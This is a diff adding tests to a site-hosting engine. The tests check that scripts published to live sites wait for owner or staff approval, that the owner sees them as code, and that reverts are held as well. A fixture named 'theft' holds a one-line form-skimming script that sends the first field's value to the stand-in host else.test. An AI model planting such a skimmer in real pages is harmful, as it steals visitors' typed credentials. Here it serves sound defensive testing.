@@ -6,6 +6,8 @@ import { edgeKey } from "../../../engine/publish/keys.ts"
 import { parseTarget } from "../../../engine/values/path.ts"
 import { resolveSite, siteView } from "../../../engine/serve/resolve.ts"
 import { testApi } from "../../../test/builders/api.ts"
+import { browser } from "../../../test/builders/browse.ts"
+import { linkIn, mailsOf } from "../../../test/builders/mailbox.ts"
 
 const api = testApi()
 beforeAll(() => api.startWorker())
@@ -61,4 +63,47 @@ it("a revert takes versions of this asset only", async () => {
   await site.put("/v1/script", { js: "1" })
   const reply = await site.post("/v1/script/revert", { toVersionId: sheet.versionId })
   expect([reply.status, reply.code]).toEqual([404, "version.not_found"])
+})
+
+/** What a program would carry visitors' words away with. */
+const theft = 'document.forms[0].onsubmit = (e) => { location = "https://else.test/?" + e.target.elements[0].value }'
+
+it("S7: on a live site waits for the owner, who is shown it as code, and no credential releases it", async () => {
+  const site = await api.aSite()
+  await site.put("/v1/script", { js: "console.log(1)" })
+  await api.operator.post(`/ops/v1/sites/${site.siteId}/domains`, { host: "www.code.test" })
+  await api.operator.patch(`/ops/v1/sites/${site.siteId}`, { ownerEmail: "nell@vale.test" })
+  const held = await site.put("/v1/script", { js: theft })
+  expect(held.status).toBe(202)
+  expect(held.body).toMatchObject({ decidableBy: ["owner", "staff"] })
+  expect(await visited(site.siteId)).toBe("console.log(1)")
+  const released = await site.post(`/v1/pages/${held.body.pageId}/publish`, { versionId: held.body.versionId })
+  expect(released.status).toBeGreaterThanOrEqual(400)
+  expect(await visited(site.siteId)).toBe("console.log(1)")
+
+  const mail = (await mailsOf(api, site.siteId)).at(-1)!
+  expect(mail.to).toEqual(["nell@vale.test"])
+  const person = browser(api)
+  const shown = await person.open(linkIn(mail))
+  expect(shown.html).toContain("document.forms[0].onsubmit")
+  expect(shown.html).toContain("https://else.test/")
+  await person.press(linkIn(mail), { decision: "accept" })
+  await expect.poll(() => visited(site.siteId), { timeout: 20_000 }).toBe(theft)
+})
+
+it("S7: where no owner is known, staff decide about a script, and no address that a program has set is asked", async () => {
+  const site = await api.aSite()
+  await site.put("/v1/site", { notifyEmail: "thief@else.test" })
+  await api.operator.post(`/ops/v1/sites/${site.siteId}/domains`, { host: "www.nobody-code.test" })
+  expect((await site.put("/v1/script", { js: theft })).status).toBe(202)
+  expect(await mailsOf(api, site.siteId)).toEqual([])
+})
+
+it("S7: what a revert brings back on a live site waits as well", async () => {
+  const site = await api.aSite()
+  const one = (await site.put("/v1/script", { js: theft })).body
+  await site.put("/v1/script", { js: "console.log(2)" })
+  await api.operator.post(`/ops/v1/sites/${site.siteId}/domains`, { host: "www.code-back.test" })
+  expect((await site.post("/v1/script/revert", { toVersionId: one.versionId })).status).toBe(202)
+  expect(await visited(site.siteId)).toBe("console.log(2)")
 })
